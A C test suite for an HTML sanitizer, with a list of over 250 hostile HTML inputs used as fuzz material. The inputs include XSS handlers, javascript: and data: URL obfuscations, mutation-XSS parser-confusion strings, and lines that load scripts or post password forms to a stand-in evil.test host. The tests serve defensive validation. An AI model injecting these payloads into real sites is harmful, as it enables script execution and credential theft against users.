/* Hostile HTML by class: whatever goes in, a browser's parser (gumbo) must find nothing
 * but listed elements, listed attributes and harmless addresses in what comes out. */
#include "text/html.h"
#include "text/wire.h"

#include <gumbo.h>
#include <stdio.h>
#include <string.h>

#include "base/rand.h"
#include "base/test.h"

static const char *const hostile[] = {
	/* script elements */
	"<script>alert(1)</script>", "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
	"<script/x>alert(1)</script/x>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)",
	"<<script>alert(1)//<</script>", "<script>/*</script><script>*/alert(1)</script>",
	"<script><!--<script></script>alert(1)--></script>", "<script type=module>import 'x'</script>",
	"<\0script>alert(1)</script>", "<script\t\f>alert(1)</script\f>", "</script><script>alert(1)</script>",
	"<b><script>alert(1)</b></script>", "<script src=data:,alert(1)>", "<script>x='<img src=x onerror=1>'</script>",
	/* handlers */
	"<img src=x onerror=alert(1)>", "<img src=x:x onerror\n=\nalert(1)>", "<body onload=alert(1)>", "<div onclick='alert(1)'>x</div>",
	"<b ONMOUSEOVER=alert(1)>x</b>", "<a href=http://a.test onfocus=alert(1) autofocus>x</a>", "<p on\tclick=1>x</p>",
	"<img/src=x/onerror=alert(1)>", "<img src=`x` onerror=`alert(1)`>", "<img src='x'onerror='alert(1)'>",
	"<img \"\"\"><script>alert(1)</script>\">", "<div/onmouseenter=alert(1)>x", "<table onpointerdown=1><td onclick=2>x",
	"<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
	"<video><source onerror=alert(1)></video>", "<audio src onerror=alert(1)>", "<a onmouseover\x0b=1 href=http://a.test>y</a>",
	"<div =onclick=alert(1)>x</div>", "<div \"onclick=alert(1)>x</div>", "<div title='\"onclick=alert(1) x=\"'>y</div>",
	"<img alt='x\" onerror=\"alert(1)' src=http://a.test/1.png>", "<img alt=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; src=cid:a>",
	"<p title=\"a&#34; onclick=&#34;alert(1)\">x</p>", "<p title=\"</p><script>alert(1)</script>\">x</p>",
	/* addresses */
	"<a href=javascript:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\rscript:alert(1)\">x</a>", "<a href='java&#9;script:alert(1)'>x</a>",
	"<a href='java&#x0A;script:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
	"<a href='&#0000106avascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='java&Tab;script&colon;alert&lpar;1&rpar;'>x</a>",
	"<a href='java&NewLine;script:alert(1)'>x</a>", "<a href='\x01javascript:alert(1)'>x</a>", "<a href='\x1f\x01 jAvAsCrIpT:alert(1)'>x</a>",
	"<a href='javascript\x00:alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
	"<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='//evil.test/x'>x</a>",
	"<a href='/logout'>x</a>", "<a href='../x'>x</a>", "<a href='?q=1'>x</a>", "<a href='#x'>x</a>", "<a href='blob:http://a/1'>x</a>",
	"<a href='view-source:http://a'>x</a>", "<a href='http:evil'>x</a>", "<a href='http:\\\\evil.test'>x</a>", "<a href='ht\ttp://ok.test/'>x</a>",
	"<a href='feed:javascript:alert(1)'>x</a>", "<a href='jar:http://a!/x'>x</a>", "<a href='mailto:a@b.test?body=<script>'>x</a>",
	"<a href='https://a.test/\" onclick=\"alert(1)'>x</a>", "<a href='https://a.test/&quot;onclick=alert(1)//'>x</a>", "<a href=x:javascript:alert(1)>x</a>",
	"<a href='&javascript:alert(1)'>x</a>", "<a href='javascript://http://a.test/%0aalert(1)'>x</a>", "<a href='\u2028javascript:alert(1)'>x</a>",
	"<a href='\u00a0javascript:alert(1)'>x</a>", "<a href='ｊavascript:alert(1)'>x</a>", "<a href='tel:+34600;alert(1)'>x</a>",
	"<img src=javascript:alert(1)>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
	"<img src='data:image/png;base64,AAAA\" onerror=\"alert(1)'>", "<img src='data:text/html,x'>", "<img src=//evil.test/track.gif>", "<img srcset='http://evil.test/x 1x'>",
	"<img src='cid:a\" onerror=alert(1)'>", "<img src='cid:<script>'>", "<img src=http://evil.test/t.gif width=1 height=1>", "<img dynsrc=javascript:1 lowsrc=javascript:2>",
	"<img data-remote-src='javascript:alert(1)'>", "<img data-remote-src='http://a.test/x' src='javascript:alert(1)'>", "<img src=x usemap=#m><map name=m><area href=javascript:1></map>",
	/* base, meta, link, forms */
	"<base href='http://evil.test/'><a href='x'>y</a>", "<base target=_top>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
	"<meta http-equiv=set-cookie content=a=b>", "<meta charset=utf-7>+ADw-script+AD4-", "<link rel=stylesheet href=http://evil.test/x.css>", "<link rel=import href=x>",
	"<form action=http://evil.test><input name=p type=password><button>go</button></form>", "<button formaction=javascript:alert(1)>x</button>",
	"<form><button form=x formaction=javascript:1>y", "<isindex action=javascript:alert(1) type=image>", "<textarea><script>alert(1)</script></textarea>",
	"<textarea><img title='</textarea><img src=x onerror=1>'>", "<title><img src=x onerror=alert(1)></title>", "<title></title><img title='</title><img src=x onerror=1>'>",
	"<select><option><style></option></select><img src=x onerror=1></style>", "<select><script>alert(1)</script></select>", "<keygen autofocus onfocus=1>", "<label for=x onclick=1>y</label>",
	/* CSS */
	"<style>@import 'http://evil.test'</style>", "<style>body{background:url(http://evil.test)}", "<div style='background:url(javascript:alert(1))'>x</div>",
	"<div style='width:expression(alert(1))'>x</div>", "<div style='position:fixed;top:0;left:0;z-index:9999'>x</div>", "<div style='-moz-binding:url(x)'>x</div>",
	"<div style=\"behavior:url(x.htc)\">x</div>", "<style><img src='</style><img src=x onerror=alert(1)//'>", "<style/><img src=x onerror=alert(1)>", "<p style=\"x:\\65xpression(1)\">y",
	"<font style='color:red' color=red face='x\"onclick=1'>y</font>", "<div class='app-login' id='root'>x</div>", "<td background=javascript:alert(1)>x", "<table background=http://evil.test/x.png><tr><td>x",
	"<style>a{}</style\n><style>b{}</style >c", "<div style=display:none>hidden<script>alert(1)</script></div>z", "<span style='DISPLAY : NONE'>hidden</span>",
	/* frames and plug-ins */
	"<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe><img src=x onerror=1></iframe>", "<frameset><frame src=javascript:1></frameset>",
	"<object data=javascript:alert(1)></object>", "<object><param name=movie value=x><embed src=x></object>", "<embed src='data:image/svg+xml,<svg/onload=1>'>", "<applet code=x></applet>",
	"<object data='data:text/html,<script>1</script>'><b>fallback</b></object>", "<portal src=x>", "<noembed><img title='</noembed><img src=x onerror=1>'></noembed>", "<noframes><style></noframes><img src=x onerror=1></style>",
	"<iframe src='x'></iframe/><script>1</script>",
	/* SVG and MathML */
	"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)></svg>",
	"<svg><foreignObject><iframe src=javascript:1></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg/><img src=x onerror=alert(1)>", "<svg><p><style><img src='</style><img src=x onerror=1>'>",
	"<svg><use href='data:image/svg+xml,<svg id=x onload=1>#x'/></svg>", "<svg><set attributeName=href to=javascript:1></svg>", "<svg><desc><b>x</desc></svg>y", "<svg><![CDATA[<img src=x onerror=1>]]></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math href=javascript:alert(1)>CLICK</math>", "<math><annotation-xml encoding=text/html><script>1</script></annotation-xml></math>",
	"<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=1>",
	"<svg><title><![CDATA[</title><img src=x onerror=1>]]></title></svg>", "<SvG/OnLoAd=alert(1)//", "<svg><svg></svg>inner</svg>after",
	/* raw-text confusion */
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=1>'>", "<plaintext><img src=x onerror=1>", "<listing><img src=x onerror=1></listing>", "<template><script>alert(1)</script></template>",
	"<template><template></template><img src=x onerror=1></template>", "<!--<img src='--><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=1>-->", "<!---><img src=x onerror=1>-->", "<!-- --!><img src=x onerror=1> -->", "<!--<!--><script>1</script>-->",
	"<!-- unclosed <script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><?php echo 1 ?><script>1</script>", "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;", "<!x <script>alert(1)</script>>", "</ <script>alert(1)</script>>", "<//script>", "<%<!--'%><script>alert(1);</script -->",
	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![if !mso]><b>x</b><![endif]>", "<comment><img src='</comment><img src=x onerror=1>'></comment>",
	/* broken markup */
	"<img src=\"x onerror=alert(1)", "<a href='https://a.test", "<div title='", "<", "<a", "</", "<!", "<!-", "<!--", "&", "&#", "&#x", "&#xFFFFFFFFFF;", "<a href=>x</a>", "<a href>x</a>", "<b", "<b/", "</b", "<b x", "<b x=", "<b x='", "<b x=\"y\"", "<b x=y", "x<y>z", "<1>", "< b>", "<b<i>x",
	"<b></i></b></b></b>", "<b><i><u></b></i></u>x", "<p><p><p></p>", "</p></div></td>", "<a href=http://a.test><a href=http://b.test>x</a></a>", "<a href=http://a.test><table><td><a href=http://b.test>y", "<li><li><ul><li></ul>", "<h1><h2>x", "<dl><dd>a<dt>b<dd>c", "<hr>x</hr>", "</br>x", "<br/><br>", "<img>",
	/* tables and mutation */
	"<table><script>alert(1)</script><tr><td>x", "<table>text<tr>text<td>cell", "<tr><td>x", "<td>x</td>", "<table><tr><table><tr><td>x", "<table><b><tr><td>x</b>y", "<table><caption><td>x", "<table><td><table><td></table></table>x", "<table><tbody><thead><td>x<tr>y", "<table><a href=http://a.test><tr><td>x", "<table></td></tr>x",
	"<table><tr><td><b></td></tr></table></b>x", "<table><colgroup><col onclick=1></colgroup><td>x", "<table><tr></table><td>x", "<b><table><i></b></table></i>x", "<table><form><tr><td><input type=hidden>x", "<p><table><td></p>x",
	/* encodings, blanks, sizes */
	"\xFE\xFF\x00<script>", "<scr\xC0\x80ipt>alert(1)</script>", "<\xEF\xBC\x9Cscript>", "\xC0\xBCscript\xC0\xBE", "<img src=x\xC2\xA0onerror=alert(1)>", "<img\xE3\x80\x80src=x onerror=1>", "\u202Egnp.exe", "<a href=\"https://a.test/\u202Egnp.exe\">x</a>", "<b\x0b>x</b>", "<b\x0c onclick=1>x</b>",
	"<td width=99999999999 height=-1 colspan=1e9>x", "<table width='100%;x' border=\"1\" cellpadding=javascript:1>", "<ol start=-5 type='x onclick=1'><li value='3\"'>x", "<p align='left\" onclick=\"1'>x", "<p dir=evil lang='x\"'>x</p>", "<o:p>&nbsp;</o:p><v:shape style='x' href=javascript:1>y</v:shape>",
	"<div contenteditable onbeforeinput=1>x</div>", "<a href=https://a.test ping=http://evil.test download target=_self rel=opener>x</a>", "<x-app is=foo onclick=1>y</x-app>", "<b style is=x slot=y part=z>w</b>", "<custom-element><script>1</script></custom-element>", "<img src=https://a.test/x.png crossorigin referrerpolicy=unsafe-url loading=eager>",
};

static const char *const ok_tags = " a abbr address article aside b bdi bdo big blockquote body br caption center cite code dd del dfn dir div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 head header hr html i img ins kbd li main mark menu nav ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr ";
static const char *const ok_attrs = " href rel target src data-remote-src align alt border cellpadding cellspacing colspan dir height rowspan start title type valign value width ";

/* In the styled form, judged by the same tree walker. */
static const char *const looks_tags = " font style ";
static const char *const looks_attrs = " bgcolor class color face id nowrap size style ";

static bool listed(const char *list, const char *name)
{
	char t[64];

	snprintf(t, sizeof(t), " %s ", name);
	return strstr(list, t) != NULL;
}

static bool url_ok(const char *attr, const char *v)
{
	if (!strcmp(attr, "href"))
		return !strncmp(v, "http://", 7) || !strncmp(v, "https://", 8) || !strncmp(v, "mailto:", 7) || !strncmp(v, "tel:", 4);
	if (!strcmp(attr, "data-remote-src"))
		return !strncmp(v, "http://", 7) || !strncmp(v, "https://", 8);
	if (!strcmp(attr, "style"))
		return str_find_nocase(str_of(v), S("url(")) < 0 && !strchr(v, '\\');
	if (!strcmp(attr, "src"))
		return !strncmp(v, "cid:", 4) || !strncmp(v, "data:image/png;base64,", 22) ||
		       !strncmp(v, "data:image/jpeg;base64,", 23) || !strncmp(v, "data:image/gif;base64,", 22);
	return true;
}

static bool element_ok(const GumboElement *e, bool looks)
{
	unsigned i;

	if (e->tag == GUMBO_TAG_UNKNOWN || (!listed(ok_tags, gumbo_normalized_tagname(e->tag)) &&
	     !(looks && listed(looks_tags, gumbo_normalized_tagname(e->tag)))) || e->tag_namespace != GUMBO_NAMESPACE_HTML)
		return false;
	for (i = 0; i < e->attributes.length; i++) {
		const GumboAttribute *at = e->attributes.data[i];

		if ((!listed(ok_attrs, at->name) && !(looks && listed(looks_attrs, at->name))) || !url_ok(at->name, at->value))
			return false;
	}
	return true;
}

static bool tree_ok(const GumboNode *n, bool looks)
{
	const GumboVector *kids;
	unsigned i;

	if (n->type == GUMBO_NODE_DOCUMENT) {
		kids = &n->v.document.children;
	} else if (n->type == GUMBO_NODE_ELEMENT) {
		if (!element_ok(&n->v.element, looks))
			return false;
		kids = &n->v.element.children;
	} else {
		return n->type == GUMBO_NODE_TEXT || n->type == GUMBO_NODE_WHITESPACE;
	}
	for (i = 0; i < kids->length; i++)
		if (!tree_ok(kids->data[i], looks))
			return false;
	return true;
}

static bool judged(str html, bool looks)
{
	GumboOptions o = kGumboDefaultOptions;
	GumboOutput *g;
	bool ok;

	g = gumbo_parse_with_options(&o, html.s ? html.s : "", html.n);
	ok = tree_ok(g->document, looks);
	gumbo_destroy_output(&o, g);
	return ok;
}

static bool harmless(str html)
{
	return judged(html, false);
}

static bool closed(str html)
{
	size_t i;
	int open = 0;

	for (i = 0; i < html.n; i++) {
		if (html.s[i] != '<')
			continue;
		if (html.s[i + 1] == '/')
			open--;
		else if (!str_starts(str_slice(html, i, html.n), S("<br")) && !str_starts(str_slice(html, i, html.n), S("<hr")) &&
			 !str_starts(str_slice(html, i, html.n), S("<img")) && !str_starts(str_slice(html, i, html.n), S("<wbr")))
			open++;
	}
	return open == 0;
}

/* With its looks kept: nothing but looks more, and the same again. */
static void try_styled(struct ctx *c, str in)
{
	static const struct html_policy p = { .styles = true };
	struct html_out one, two;
	bool ok;

	CHECK(html_sanitize(c->arena, in, &p, &one));
	CHECK(html_sanitize(c->arena, one.html, &p, &two));
	ok = html_is_clean_styled(one.html) && judged(one.html, true) && str_eq(one.html, two.html) && (one.html.n == 0 || str_utf8_valid(one.html));
	if (!ok)
		fprintf(stderr, "in : %.*s\none: %.*s\n", FMT(in), FMT(one.html));
	CHECK(ok);
}

static void try_one(struct ctx *c, str in)
{
	struct html_out one, two;
	bool ok;

	try_styled(c, in);
	CHECK(html_sanitize(c->arena, in, NULL, &one));
	CHECK(html_sanitize(c->arena, one.html, NULL, &two));
	ok = harmless(one.html) && str_eq(one.html, two.html) && closed(one.html) &&
	     (one.html.n == 0 || str_utf8_valid(one.html)) && (one.text.n == 0 || str_utf8_valid(one.text));
	if (!ok)
		fprintf(stderr, "in : %.*s\none: %.*s\ntwo: %.*s\n", FMT(in), FMT(one.html), FMT(two.html));
	CHECK(ok);
}

TEST(html_hostile_list_is_harmless)
{
	size_t i;

	CHECK(COUNT(hostile) >= 250);
	for (i = 0; i < COUNT(hostile); i++)
		try_one(c, str_of(hostile[i]));
}

TEST(html_judge_is_not_blind)
{
	size_t i, flagged = 0;

	for (i = 0; i < COUNT(hostile); i++)
		flagged += !harmless(str_of(hostile[i]));
	CHECK(flagged > 170);
}

TEST(html_hostile_pairs)
{
	struct arena *keep = c->arena, *a = arena_new(0);
	size_t i, k;

	/* One payload inside another's gap: seeded, so a failure repeats. */
	for (i = 0; i < 3000; i++) {
		str x = str_of(hostile[rand_u64() % COUNT(hostile)]), y = str_of(hostile[rand_u64() % COUNT(hostile)]);

		c->arena = a;
		k = x.n ? (size_t)(rand_u64() % (x.n + 1)) : 0;
		try_one(c, str_fmt(a, "%.*s%.*s%.*s", FMT(str_slice(x, 0, k)), FMT(y), FMT(str_slice(x, k, x.n))));
		c->arena = keep;
		arena_reset(a);
	}
	arena_free(a);
}
